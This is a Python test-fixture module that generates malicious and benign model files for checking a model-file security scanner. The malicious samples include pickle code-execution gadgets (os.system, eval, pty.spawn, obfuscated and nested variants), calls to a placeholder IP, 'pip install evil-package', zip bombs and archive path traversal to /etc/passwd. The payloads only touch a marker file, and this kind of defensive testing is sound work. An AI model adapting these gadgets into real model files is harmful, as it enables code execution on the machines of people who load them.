"""Known-bad and known-good sample files for tests, benchmarks and self-checks.

Every malicious sample's payload is inert by design: it would only create ``marker`` (a file
path) if something ever loaded it, so a test can prove scanning never executes anything. The
samples are written with ``pickle.dumps`` of objects whose ``__reduce__`` names the gadget, or
opcode by opcode; nothing here ever unpickles.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any


class Gadget:
    """``pickle.dumps(Gadget(func, args))`` pickles the call ``func(*args)``."""

    def __init__(self, func: Callable[..., Any], args: tuple[Any, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


def sbu(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def stack_global(module: str, name: str, *, memo: bool = False) -> bytes:
    """Protocol-4 STACK_GLOBAL; with ``memo`` the names go through MEMOIZE/BINGET first."""
    if not memo:
        return sbu(module) + sbu(name) + b"\x93"
    # memoise both strings, drop them, fetch them back from the memo
    return (sbu(module) + b"\x94" + b"0" + sbu(name) + b"\x94" + b"0"
            + b"h\x00" + b"h\x01" + b"\x93")


def call_pickle(module: str, name: str, arg: str, *, memo: bool = False) -> bytes:
    """A protocol-4 pickle calling ``module.name(arg)``."""
    return (b"\x80\x04" + stack_global(module, name, memo=memo) + sbu(arg) + b"\x85R.")


def shell(marker: Path) -> str:
    return f"touch {marker}"


def malicious_samples(marker: Path) -> dict[str, bytes | Callable[[Path], None]]:
    """name → file content (bytes) or a writer ``f(path)``; each one is a distinct attack class."""
    cmd = shell(marker)
    evil = Gadget(os.system, (cmd,))
    out: dict[str, bytes | Callable[[Path], None]] = {}
    for proto in range(6):
        out[f"os_system_p{proto}.pkl"] = pickle.dumps(evil, protocol=proto)
    out["posix_system_global.pkl"] = f"cposix\nsystem\n(V{cmd}\ntR.".encode()
    out["eval.pkl"] = call_pickle("builtins", "eval", f"__import__('os').system({cmd!r})")
    source = f"import os; os.system({cmd!r})"
    out["exec_inst.pkl"] = f"(V{source}\nibuiltins\nexec\n.".encode()
    out["subprocess_run.pkl"] = call_pickle("subprocess", "getoutput", cmd)
    out["pty_spawn.pkl"] = call_pickle("pty", "spawn", cmd)
    out["runpy.pkl"] = call_pickle("runpy", "run_path", str(marker))
    out["code_interp.pkl"] = call_pickle("code", "interact", cmd)
    out["timeit.pkl"] = call_pickle("timeit", "timeit", f"import os; os.system({cmd!r})")
    out["cprofile.pkl"] = call_pickle("cProfile", "run", f"import os; os.system({cmd!r})")
    out["pdb.pkl"] = call_pickle("pdb", "run", f"import os; os.system({cmd!r})")
    out["ctypes.pkl"] = call_pickle("ctypes", "CDLL", str(marker))
    out["pip.pkl"] = call_pickle("pip", "main", "install evil-package")
    out["torch_hub.pkl"] = call_pickle("torch.hub", "load", "evil/repo")
    out["webbrowser.pkl"] = call_pickle("webbrowser", "open", "http://198.51.100.1/")
    out["socket.pkl"] = call_pickle("socket", "create_connection", "198.51.100.1")
    out["urllib.pkl"] = call_pickle("urllib.request", "urlopen", "http://198.51.100.1/")
    out["shutil.pkl"] = call_pickle("shutil", "rmtree", str(marker))
    out["asyncio_subprocess.pkl"] = call_pickle("asyncio", "create_subprocess_shell", cmd)
    out["importlib.pkl"] = (b"\x80\x04" + stack_global("importlib", "import_module")
                            + sbu("os") + b"\x85R.")
    # getattr(__import__('os'), 'system')(cmd)
    out["getattr_import.pkl"] = (
        b"\x80\x04" + stack_global("builtins", "getattr")
        + stack_global("builtins", "__import__") + sbu("os") + b"\x85R"
        + sbu("system") + b"\x86R" + sbu(cmd) + b"\x85R.")
    out["attrgetter.pkl"] = (
        b"\x80\x04" + stack_global("operator", "attrgetter") + sbu("system") + b"\x85R"
        + stack_global("builtins", "__import__") + sbu("os") + b"\x85R" + b"\x85R"
        + sbu(cmd) + b"\x85R.")
    out["methodcaller.pkl"] = (
        b"\x80\x04" + stack_global("_operator", "methodcaller") + sbu("system") + sbu(cmd)
        + b"\x86R" + stack_global("importlib", "import_module") + sbu("os") + b"\x85R"
        + b"\x85R.")
    out["functools_partial.pkl"] = (
        b"\x80\x04" + stack_global("functools", "partial") + stack_global("os", "system")
        + sbu(cmd) + b"\x86R" + b")R.")
    out["memo_stack_global.pkl"] = call_pickle("os", "system", cmd, memo=True)
    # the module name is built at load time: "".join(["o", "s"]) → STACK_GLOBAL("os", "system")
    out["string_built_name.pkl"] = (
        b"\x80\x04" + stack_global("builtins", "str.join") + sbu("") + b"(" + sbu("o")
        + sbu("s") + b"l\x86R" + sbu("system") + b"\x93" + sbu(cmd) + b"\x85R.")
    # BUILD rewrites an allowlisted module attribute, a later import fetches it
    # BUILD rewrites attributes of an imported module; later imports fetch the replacements
    # ("builtins", "eval") and STACK_GLOBAL combines them (the sys.modules/BUILD trick)
    out["build_override.pkl"] = (
        b"\x80\x04" + stack_global("json", "decoder") + b"\x94"
        + b"h\x00}" + sbu("JSONArray") + sbu("builtins") + b"sb0"
        + b"h\x00}" + sbu("scanstring") + sbu("eval") + b"sb0"
        + stack_global("json.decoder", "JSONArray") + stack_global("json.decoder", "scanstring")
        + b"\x93" + sbu("1+1") + b"\x85R.")
    inner = pickle.dumps(evil, protocol=2)
    out["nested_loads.pkl"] = pickle.dumps(Gadget(pickle.loads, (inner,)), protocol=4)
    import base64

    out["nested_b64.pkl"] = (
        b"\x80\x04" + stack_global("pickle", "loads") + stack_global("base64", "b64decode")
        + sbu(base64.b64encode(inner).decode()) + b"\x85R" + b"\x85R.")
    out["payload_then_garbage.pkl"] = call_pickle("os", "system", cmd)[:-1] + b"\xff\xfe garbage"
    out["truncated_payload.pkl"] = call_pickle("os", "system", cmd)[:-6]
    out["second_pickle.pkl"] = pickle.dumps({"weights": [1, 2, 3]}, protocol=2) + pickle.dumps(
        evil, protocol=2)
    out["ext_registry.pkl"] = b"\x80\x02\x82\x01(X\x01\x00\x00\x00xtR."
    out["marshal_code.pkl"] = call_pickle("marshal", "loads", "c" * 8)
    out["types_function.pkl"] = call_pickle("types", "FunctionType", "x")
    out["gzip_pickle.pkl.gz"] = gzip.compress(pickle.dumps(evil))
    out["bz2_pickle.pkl.bz2"] = bz2.compress(pickle.dumps(evil))
    out["xz_pickle.pkl.xz"] = lzma.compress(pickle.dumps(evil))
    out["torch_legacy.pt"] = _legacy_torch(pickle.dumps(evil, protocol=2))
    out["torch_zip.pt"] = lambda p: _torch_zip(p, pickle.dumps(evil, protocol=2), "data.pkl")
    out["torch_zip_odd_folder.bin"] = lambda p: _torch_zip(
        p, pickle.dumps(evil, protocol=2), "data.pkl", folder="my model v2")
    out["torch_zip_extra_member.pt"] = lambda p: _torch_zip(
        p, pickle.dumps(evil, protocol=2), "extra/constants.pkl")
    out["torch_zip_deflated.pt"] = lambda p: _torch_zip(
        p, pickle.dumps(evil, protocol=2), "data.pkl", compression=zipfile.ZIP_DEFLATED)
    out["zip_renamed_member.zip"] = _rename_local(zip_bytes({"data.pkl": pickle.dumps(evil)}),
                                                   b"data.pkl", b"datapkl_")
    out["zip_fake_encrypted.zip"] = _set_flags(zip_bytes({"data.pkl": pickle.dumps(evil)}), 0x1)
    out["zip_traversal.zip"] = zip_bytes({"../../outside.txt": b"hello"})
    # 2 GiB of zeros (a few hundred MiB of zeros is a benign compressed array, not a bomb);
    # written lazily, compressing it takes seconds
    out["zip_bomb.zip"] = lambda path: path.write_bytes(_zip_bomb(2 << 30))
    inner_zip = zip_bytes({"model/data.pkl": pickle.dumps(evil)})
    out["zip_in_zip.zip"] = zip_bytes({"inner.zip": inner_zip})
    deep = pickle.dumps(evil)
    for level in range(9):
        deep = zip_bytes({f"level{level}.zip" if level else "data.pkl": deep})
    out["zip_nested_deep.zip"] = deep
    out["tar_gz.tar.gz"] = _tar({"model/data.pkl": pickle.dumps(evil)}, "w:gz")
    out["tar_symlink.tar"] = _tar({}, "w", links={"model/weights": "/etc/passwd"})
    out["tar_traversal.tar"] = _tar({"../../evil.sh": b"echo"}, "w")
    out["npy_object.npy"] = _npy_object(evil)
    out["npz_object.npz"] = lambda p: _npz_object(p, evil, compressed=False)
    out["npz_object_compressed.npz"] = lambda p: _npz_object(p, evil, compressed=True)
    for comp in (None, "zlib", "gzip", "bz2", "lzma", "xz"):
        suffix = f"_{comp}" if comp else ""
        out[f"joblib{suffix}.joblib"] = lambda p, c=comp: _joblib(p, evil, c)
    out["safetensors_overlap.safetensors"] = safetensors_bad("overlap")
    out["safetensors_header_too_long.safetensors"] = safetensors_bad("length")
    out["onnx_external_escape.onnx"] = lambda p: _onnx_external(p, "../../../etc/passwd")
    out["onnx_external_absolute.onnx"] = lambda p: _onnx_external(p, "/etc/passwd")
    out["keras_v3_lambda.keras"] = _keras_zip()
    out["keras_lambda.h5"] = _keras_h5
    out["sevenzip.7z"] = lambda p: _sevenzip(p, {"data.pkl": pickle.dumps(evil)})
    return out


def benign_samples() -> dict[str, bytes | Callable[[Path], None]]:
    """name → content or writer for ordinary model files of every supported kind."""
    import collections
    import datetime

    out: dict[str, bytes | Callable[[Path], None]] = {}
    data = {"lr": 0.01, "layers": [64, 32], "name": "mlp", "tags": {"a", "b"},
            "when": datetime.datetime(2024, 1, 2), "order": collections.OrderedDict(a=1),
            "counts": collections.Counter("hello"), "blob": b"\x00\x01"}
    for proto in range(6):
        out[f"plain_p{proto}.pkl"] = pickle.dumps(data, protocol=proto)
    out["torch_state_dict.pt"] = lambda p: _torch_save(p, "state_dict", zip_format=True)
    out["torch_state_dict_legacy.pt"] = lambda p: _torch_save(p, "state_dict", zip_format=False)
    out["torch_checkpoint.ckpt"] = lambda p: _torch_save(p, "checkpoint", zip_format=True)
    out["torch_checkpoint_legacy.ckpt"] = lambda p: _torch_save(p, "checkpoint", zip_format=False)
    out["model.safetensors"] = safetensors_good
    out["array.npy"] = _npy_numeric
    out["arrays.npz"] = lambda p: _npz_numeric(p, compressed=False)
    out["arrays_compressed.npz"] = lambda p: _npz_numeric(p, compressed=True)
    out["strings_object.npy"] = _npy_plain_object
    for comp in (None, "zlib", "gzip", "bz2", "lzma", "xz"):
        suffix = f"_{comp}" if comp else ""
        out[f"sklearn_logreg{suffix}.joblib"] = lambda p, c=comp: _sklearn(p, "logreg", c)
    out["sklearn_forest.joblib"] = lambda p: _sklearn(p, "forest", None)
    out["sklearn_pipeline.pkl"] = lambda p: _sklearn(p, "pipeline", "pickle")
    out["plain.pkl.gz"] = gzip.compress(pickle.dumps(data))
    out["model.onnx"] = _onnx_good
    out["weights.tar"] = _tar({"model/config.json": b'{"a": 1}', "model/w.bin": b"\0" * 64}, "w")
    return out


def write_samples(folder: Path, samples: dict[str, bytes | Callable[[Path], None]]) -> list[Path]:
    """Write every sample into ``folder``; samples whose optional library is missing are left
    out (ImportError). Returns the paths written."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, content in samples.items():
        path = folder / name
        try:
            if callable(content):
                content(path)
            else:
                path.write_bytes(content)
        except ImportError:
            continue
        written.append(path)
    return written


# -- builders ----------------------------------------------------------------------------
def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _rename_local(data: bytes, old: bytes, new: bytes) -> bytes:
    """Change a member's name in its local header only (central directory keeps ``old``)."""
    assert len(old) == len(new)
    i = data.index(b"PK\x03\x04")
    j = data.index(old, i)
    return data[:j] + new + data[j + len(old):]


def _set_flags(data: bytes, flags: int) -> bytes:
    out = bytearray(data)
    i = out.index(b"PK\x03\x04")
    struct.pack_into("<H", out, i + 6, flags)
    j = out.index(b"PK\x01\x02")
    struct.pack_into("<H", out, j + 8, flags)
    return bytes(out)


def _zip_bomb(size: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("zeros.bin", "w",
                                                                          force_zip64=True) as fh:
        chunk = b"\0" * (1 << 20)
        for _ in range(size >> 20):
            fh.write(chunk)
    return buf.getvalue()


def _tar(members: dict[str, bytes], mode: str, links: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tf.addfile(info)
    return buf.getvalue()


def _legacy_torch(main: bytes) -> bytes:
    sys_info = {"protocol_version": 1001, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps(sys_info, protocol=2) + main + pickle.dumps([], protocol=2))


def _torch_zip(path: Path, payload: bytes, member: str, folder: str = "archive",
               compression: int = zipfile.ZIP_STORED) -> None:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(4)}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(
            path, "w", compression) as dst:
        for info in src.infolist():
            rest = info.filename.split("/", 1)[1]
            data = src.read(info)
            if rest == member:
                data = payload
            dst.writestr(f"{folder}/{rest}", data)
        if member not in [i.filename.split("/", 1)[1] for i in src.infolist()]:
            dst.writestr(f"{folder}/{member}", payload)


def _torch_save(path: Path, what: str, zip_format: bool) -> None:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    obj: Any = model.state_dict()
    if what == "checkpoint":
        opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
        model(torch.ones(2, 8)).sum().backward()
        opt.step()
        obj = {"model": model.state_dict(), "optimizer": opt.state_dict(), "epoch": 3,
               "best_acc": 0.91, "args": {"lr": 0.1, "arch": "mlp"}}
    torch.save(obj, path, _use_new_zipfile_serialization=zip_format)


def _npy_object(obj: Any) -> bytes:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "fine", obj
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


def _npz_object(path: Path, obj: Any, compressed: bool) -> None:
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = obj
    (np.savez_compressed if compressed else np.savez)(path, w=np.arange(10), obj=arr)


def _npy_numeric(path: Path) -> None:
    import numpy as np

    np.save(path, np.arange(100, dtype=np.float32).reshape(10, 10))


def _npz_numeric(path: Path, compressed: bool) -> None:
    import numpy as np

    (np.savez_compressed if compressed else np.savez)(path, a=np.ones((5, 5)), b=np.arange(3))


def _npy_plain_object(path: Path) -> None:
    import numpy as np

    arr = np.array(["a", {"k": [1, 2]}, 3.5], dtype=object)
    np.save(path, arr, allow_pickle=True)


def _joblib(path: Path, obj: Any, compression: str | None) -> None:
    import joblib
    import numpy as np

    data = {"weights": np.arange(1000, dtype=np.float64), "names": np.array(["a", None],
                                                                            dtype=object),
            "payload": obj}
    joblib.dump(data, path, compress=(compression, 3) if compression else 0)


def _sklearn(path: Path, kind: str, compression: str | None) -> None:
    import joblib
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(0)
    x, y = rng.normal(size=(60, 4)), np.arange(60) % 2
    model: Any
    if kind == "logreg":
        model = LogisticRegression().fit(x, y)
    elif kind == "forest":
        model = RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y)
    else:
        model = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
    if compression == "pickle":
        path.write_bytes(pickle.dumps(model))
    else:
        joblib.dump(model, path, compress=(compression, 3) if compression else 0)


def safetensors_good(path: Path) -> None:
    import torch
    from safetensors.torch import save_file

    save_file({"w": torch.ones(3, 4), "b": torch.zeros(4, dtype=torch.int64)}, str(path),
              metadata={"format": "pt"})


def safetensors_bad(kind: str) -> bytes:
    if kind == "length":
        return struct.pack("<Q", 1 << 40) + b'{"a": {}}'
    header = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
              "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + b"\0" * 12


def _onnx_model(location: str | None) -> Any:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((2, 2), dtype=np.float32), "W")
    if location is not None:
        weight.ClearField("raw_data")
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["Y"])], "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])], [weight])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])


def _onnx_external(path: Path, location: str) -> None:
    path.write_bytes(_onnx_model(location).SerializeToString())


def _onnx_good(path: Path) -> None:
    path.write_bytes(_onnx_model(None).SerializeToString())


def _keras_config() -> dict[str, Any]:
    return {"class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"class_name": "Dense", "config": {"name": "dense", "units": 2}},
        {"class_name": "Lambda", "config": {"name": "evil", "function": {
            "class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None}}}},
    ]}}


def _keras_zip() -> bytes:
    return zip_bytes({"config.json": json.dumps(_keras_config()).encode(),
                 "metadata.json": b'{"keras_version": "3.0.0"}',
                 "model.weights.h5": b""})


def _keras_h5(path: Path) -> None:
    import h5py

    with h5py.File(path, "w") as h5:
        h5.attrs["model_config"] = json.dumps(_keras_config())
        h5.create_dataset("w", data=[1.0, 2.0])


def _sevenzip(path: Path, members: dict[str, bytes]) -> None:
    import py7zr

    with py7zr.SevenZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(data, name)


_ = zlib  # zlib-compressed joblib files come from joblib itself
